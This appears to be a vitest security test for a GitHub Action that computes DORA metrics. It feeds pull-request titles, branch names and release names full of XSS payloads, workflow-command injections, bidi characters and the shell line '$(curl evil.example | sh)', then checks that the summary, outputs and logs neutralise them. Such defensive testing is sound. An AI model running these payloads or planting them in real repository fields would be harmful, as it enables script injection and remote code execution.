/**
 * Hostile repository data through dist/index.js, as a runner runs it. Anyone who can open a pull
 * request, push a branch, name a release or file an issue controls text the action reads: titles,
 * labels, branch names, logins, release and workflow names, issue titles and commit messages. Here
 * every one of them carries Markdown, HTML, workflow expressions, shell substitutions, control
 * characters, bidi overrides, zero-width characters, newline-injected workflow commands and 10,000
 * characters, and lands in every table of the summary (deployments, changes, failures, unattributed
 * incidents, the trigger's section). The summary must render them inert, the step outputs must
 * carry none of them, the JSON report must hold them exactly, and the token must leak nowhere.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { METRIC_SPECS } from '../../src/dora/metrics.js';
import { startEmulator, type Emulator } from '../emulator/server.js';
import { DatasetBuilder, DAY, HOUR } from '../support/datasets.js';
import { runAction, type ActionRun } from '../support/run-action.js';

const NOW = '2026-06-01T00:00:00Z';
const END = Date.parse(NOW);
const TOKEN = 'ghs_H0st1leT0kenThatMustNeverLeak_9f8e7d6c5b4a';

const LONG = `${'x'.repeat(10_000)}<script>ZZTAILZZ</script>`;
const INJECT = '\n::error::pwned-by-title\n::add-mask::visible\n::set-output name=overall-tier::pwned\n';
/** The hostile fragments. Each field carries all of them, rotated so that each one leads some field within the shown width. */
const FRAGMENTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '[link](javascript:alert(3))',
  '![img](javascript:alert(4))',
  '<a href="javascript:alert(5)">a</a>',
  'a | b || c',
  '`code` **bold** __u__ ~~s~~ # h',
  '${{ secrets.GITHUB_TOKEN }}',
  '$(curl evil.example | sh)',
  '&lt;script&gt;',
  '\u0000\u0001\u0007\u0008\u001b[31m\u001f\u007f\u0085',
  '\u202eevil\u202c\u2066iso\u2069\u200f',
  'zero\u200bwidth\u200c\ufeff\u2060',
  '\r\n| injected | row |\n',
  'https://evil.example/login www.evil.example phish@evil.example',
  INJECT,
];
const HOSTILE = FRAGMENTS.join(' ');
let rotation = 0;
const hostile = (tag: string): string => {
  const k = rotation++ % FRAGMENTS.length;
  return `${tag} ${[...FRAGMENTS.slice(k), ...FRAGMENTS.slice(0, k)].join(' ')}`;
};

function build() {
  const b = new DatasetBuilder({ now: NOW, workflowName: hostile('workflow') });
  const t = (days: number, hours = 0): number => END - days * DAY + hours * HOUR;
  const root = b.push({ message: hostile('root commit'), author: hostile('root-login'), authoredAt: t(80) });
  b.deploy({ sha: root, at: t(79), name: hostile('baseline release') });

  // A pull request, deployed.
  const pr1 = b.pullRequest({
    // A lone surrogate too: UTF-8 cannot encode it, JSON escapes it.
    title: `${hostile('pr1 title')} \ud800 ${LONG}`,
    author: hostile('pr1-login'),
    headRef: hostile('feature/pr1'),
    labels: [hostile('label'), 'enhancement'],
    openedAt: t(28),
    mergedAt: t(27),
    commits: [{ message: hostile('pr1 commit'), authoredAt: t(28, -2) }],
  });
  b.deploy({ sha: pr1.mergeCommitSha, at: t(27, 1), name: hostile('release one') + LONG });
  // A hotfix opened while d1 was live: d1 failed.
  const pr2 = b.pullRequest({
    title: hostile('hotfix title'),
    author: hostile('hotfix-login'),
    headRef: hostile('hotfix/x'),
    labels: ['HotFix', hostile('label2')],
    openedAt: t(26),
    mergedAt: t(26, 2),
    commits: [{ message: hostile('hotfix commit'), authoredAt: t(26, -1) }],
  });
  b.deploy({ sha: pr2.mergeCommitSha, at: t(26, 3), name: hostile('release two') });
  // A direct push with a hostile message, deployed, then reverted by a pull request from a revert branch.
  const push = b.push({
    message: `${hostile('direct push subject')}${LONG}\n\nbody ${HOSTILE}`,
    author: hostile('pusher'),
    authoredAt: t(24),
  });
  b.deploy({ sha: push, at: t(24, 1), name: hostile('release three') });
  const revert = b.pullRequest({
    title: `Revert "${hostile('reverted')}"`,
    author: hostile('reverter'),
    headRef: `revert-99-${hostile('branch')}`,
    openedAt: t(23),
    mergedAt: t(23, 1),
    commits: [{ message: `Revert ${hostile('msg')}\n\nThis reverts commit ${push}.`, authoredAt: t(23, -1) }],
  });
  b.deploy({ sha: revert.mergeCommitSha, at: t(23, 2), name: hostile('release four') });
  // An incident an hour after d4 (attributed) and one long after every deployment (unattributed).
  b.issue({ title: hostile('incident attributed'), labels: ['incident'], createdAt: t(23, 3), closedAt: t(23, 5) });
  const pr3 = b.pullRequest({
    title: hostile('pr3 title'),
    author: hostile('pr3-login'),
    openedAt: t(20),
    mergedAt: t(20, 1),
    commits: [{ message: hostile('pr3 commit'), authoredAt: t(20, -3) }],
  });
  const tag = `v2<img src=x onerror=alert(9)>|\`${'${{ secrets.GITHUB_TOKEN }}'}\u202e`;
  b.deploy({ sha: pr3.mergeCommitSha, at: t(20, 2), tagName: tag, name: null });
  // A failed deploy run, then a rollback to d4's commit: pr3's deployment failed.
  b.failedRun({ sha: pr3.mergeCommitSha, at: t(19) });
  b.deploy({ sha: revert.mergeCommitSha, at: t(18), name: hostile('rollback release') });
  // A release named with nothing but invisible characters.
  b.deploy({ sha: revert.mergeCommitSha, at: t(17), name: '\u200b\u2066\u202e\u200f' });
  b.issue({ title: hostile('incident unattributed') + LONG, labels: ['Incident', hostile('label3')], createdAt: t(5), closedAt: null });
  return { dataset: b.build(), pr2: pr2.number, tag };
}

const { dataset, pr2, tag } = build();

/** Cells of a Markdown table row, split on pipes not escaped by a backslash. */
function cells(row: string): string[] {
  const out: string[] = [];
  let cell = '';
  for (let i = 0; i < row.length; i++) {
    const c = row[i]!;
    if (c === '\\') {
      cell += c + (row[i + 1] ?? '');
      i++;
    } else if (c === '|') {
      out.push(cell);
      cell = '';
    } else cell += c;
  }
  out.push(cell);
  // `| a | b |`: the empty strings before the first and after the last pipe are no cells.
  return out.slice(1, -1);
}

/** Tables: runs of consecutive lines starting with `|`. */
function tables(markdown: string): string[][] {
  const found: string[][] = [];
  let current: string[] = [];
  for (const line of markdown.split('\n')) {
    if (line.startsWith('|')) current.push(line);
    else if (current.length > 0) {
      found.push(current);
      current = [];
    }
  }
  if (current.length > 0) found.push(current);
  return found;
}

const ALLOWED_TAGS = new Set(['details', '/details', 'summary', '/summary', 'code', '/code', 'sub', '/sub']);

function expectInertSummary(summary: string, shown: readonly string[]): void {
  // The hostile text is there, escaped: the checks below are not passing on an empty table.
  for (const text of ['&lt;script&gt;alert\\(1\\)&lt;/script&gt;', '\\[link\\]\\(javascript', ...shown]) expect(summary).toContain(text);
  // No HTML but the summary's own few tags.
  const tags = [...summary.matchAll(/<\s*(\/?[a-z][a-z0-9-]*)/gi)].map((m) => m[1]!.toLowerCase());
  expect(tags.filter((t) => !ALLOWED_TAGS.has(t))).toEqual([]);
  expect(summary).not.toMatch(/<script|<img|<a\s/i);
  // Every link goes to GitHub over https.
  const links = [...summary.matchAll(/\]\(([^)]*)\)/g)].map((m) => m[1]!);
  expect(links.length).toBeGreaterThan(0);
  for (const link of links) expect(link).toMatch(/^https:\/\/github\.com\/acme\/shop\//);
  expect(summary).not.toMatch(/\]\(\s*javascript:/i);
  // No control characters but newlines, no bidi controls, no invisible characters.
  expect(summary).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  expect(summary).not.toMatch(/[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/);
  // No workflow command smuggled in at a line start, no raw expression or substitution.
  expect(summary).not.toMatch(/^::/m);
  expect(summary).not.toContain('${{');
  expect(summary).not.toContain('$(');
  // Long strings are cut: no run of the 10,000 x's survives beyond a table cell's width.
  expect(summary).not.toMatch(/x{200}/);
  expect(summary).not.toContain('ZZTAILZZ');
  // Each table row has as many cells as its header, and no row was injected.
  const found = tables(summary);
  expect(found.length).toBeGreaterThan(0);
  for (const table of found) {
    const width = cells(table[0]!).length;
    expect(width).toBeGreaterThan(1);
    expect(table[1]).toMatch(/^\|( --- \|)+$/);
    for (const row of table) expect(cells(row), row.slice(0, 300)).toHaveLength(width);
  }
  expect(summary).not.toMatch(/^\| injected/m);
  // Bare URLs, www names and e-mail addresses stay text (GFM would autolink them).
  const text = summary.replace(/\]\(https:\/\/github\.com\/[^)\s]*\)/g, ']');
  expect(text).not.toMatch(/(?<!\\):\/\//);
  expect(text).not.toMatch(/\bwww\./i);
  expect(text).not.toMatch(/(?<!\\)@/);
  // Deployment cells are never empty, whatever the label.
  const deployments = found.find((table) => table[0]!.startsWith('| Completed (UTC) | Deployment |'));
  expect(deployments).toBeDefined();
  for (const row of deployments!.slice(2)) expect(cells(row)[1]!.trim()).not.toBe('');
}

const OUTPUT_VALUE = /^(|-?\d+(\.\d+)?(e-?\d+)?|elite|high|medium|low|workflow|deployments|releases|merges|true|false)$/;
/** A metric's output for people: `2.2/day`, `21.5`, `1d 15h`. */
const TEXT_OUTPUT_VALUE = /^(|[\d.,]+(\/day|\/week|\/month)?|\d+[smhd]( \d+[smhd])?)$/;
const READABLE = new Set<string>(METRIC_SPECS.map((spec) => spec.outputs.text));

function expectCleanOutputs(run: ActionRun): void {
  const { 'report-path': reportPath, 'summary-line': line, ...rest } = run.outputs;
  expect(reportPath).toBe(`${run.dir}/dora-report/dora-metrics.json`);
  expect(Object.keys(rest).length).toBeGreaterThanOrEqual(13);
  for (const [name, value] of Object.entries(rest)) expect(value, name).toMatch(READABLE.has(name) ? TEXT_OUTPUT_VALUE : OUTPUT_VALUE);
  // The one sentence: the repository's name and the action's own words, nothing a shell expands.
  expect(line).toMatch(/^[A-Za-z0-9 _.,:/%()-]+\.$/);
  expect(line).toMatch(new RegExp(`^${run.report.repository}, `));
}

function expectNoLeak(run: ActionRun, reportText: string): void {
  // The token: stdout may carry it only in the mask command.
  for (const line of run.stdout.split('\n')) {
    if (line.includes(TOKEN)) expect(line).toBe(`::add-mask::${TOKEN}`);
  }
  for (const text of [run.stderr, run.summary, reportText, JSON.stringify(run.outputs)]) expect(text).not.toContain(TOKEN);
  // No hostile text reaches the log, where a newline could start a workflow command.
  expect(run.stdout).not.toContain('pwned');
  expect(run.stderr).not.toContain('pwned');
  for (const line of run.stdout.split('\n')) {
    if (line.startsWith('::')) expect(line).toMatch(/^::(add-mask|debug|warning|notice|group|endgroup)::/);
  }
}

/** The report holds every untrusted string it stores exactly, whatever it contains. */
function expectExactStrings(report: any): void {
  const byNumber = new Map(dataset.pullRequests!.map((p) => [p.number, p]));
  expect(report.changes.length).toBeGreaterThan(0);
  for (const change of report.changes) {
    if (change.kind === 'pull_request') {
      const pr = byNumber.get(change.number)!;
      expect(change.title).toBe(pr.title);
      expect(change.author).toBe(pr.author);
    } else {
      const commit = dataset.commits!.find((c) => c.sha === change.sha)!;
      expect(change.title).toBe(commit.message.split('\n', 1)[0]);
      expect(change.author).toBe(commit.author);
    }
  }
  const issues = new Map(dataset.issues!.map((i) => [i.number, i]));
  expect(report.unattributedIncidents.length).toBe(1);
  for (const incident of report.unattributedIncidents) expect(incident.title).toBe(issues.get(incident.number)!.title);
}

describe('hostile repository data through dist/index.js', () => {
  let emulator: Emulator;
  beforeAll(async () => {
    emulator = await startEmulator({ dataset: dataset as any, port: 0, token: TOKEN });
  });
  afterAll(async () => {
    await emulator?.close();
  });

  const run = async (inputs: Record<string, string | number>, event?: { name: string; payload: unknown }) => {
    const result = await runAction({
      apiUrl: emulator.apiUrl,
      graphqlUrl: emulator.graphqlUrl,
      inputs: { token: TOKEN, until: NOW, 'failure-signals': 'hotfix,revert,rollback,incident,failed-run', ...inputs },
      ...(event ? { eventName: event.name, payload: event.payload } : {}),
    });
    expect(result.code, result.stdout + result.stderr).toBe(0);
    const { readFile } = await import('node:fs/promises');
    const reportText = await readFile(result.outputs['report-path']!, 'utf8');
    return { result, reportText };
  };

  it('releases source, release trigger: release names and tags inert in every table', async () => {
    const { result, reportText } = await run(
      { 'deployment-source': 'releases', 'hotfix-labels': 'hotfix' },
      { name: 'release', payload: { release: { tag_name: tag } } },
    );
    expectInertSummary(result.summary, [
      'pr1 title',
      'hotfix title',
      'direct push subject',
      'incident unattributed',
      'release one',
      'rollback release',
      'pr1-login',
    ]);
    expectCleanOutputs(result);
    expectNoLeak(result, reportText);
    expectExactStrings(result.report);
    // Release labels are the release name (the tag when it has none), as published.
    const releases = new Map(dataset.releases!.map((r) => [String(r.id), r]));
    for (const d of result.report.deployments) {
      const release = releases.get(d.id)!;
      expect(d.label).toBe(release.name?.trim() || release.tagName);
    }
  }, 30_000);

  it('workflow source, pull request trigger', async () => {
    const { result, reportText } = await run(
      { 'deployment-source': 'workflow' },
      { name: 'pull_request', payload: { pull_request: { number: pr2, merged: true } } },
    );
    expectInertSummary(result.summary, ['Pull request [\\#2 hotfix title', 'workflow ', 'Revert &quot;reverted']);
    expectCleanOutputs(result);
    expectNoLeak(result, reportText);
    expectExactStrings(result.report);
    // Run labels are the workflow's name as GitHub serves it, and the run number.
    const runs = new Map(dataset.workflowRuns!.map((w) => [String(w.id), w]));
    for (const d of result.report.deployments) expect(d.label).toBe(`${dataset.workflows![1]!.name} #${runs.get(d.id)!.runNumber}`);
  }, 30_000);
});
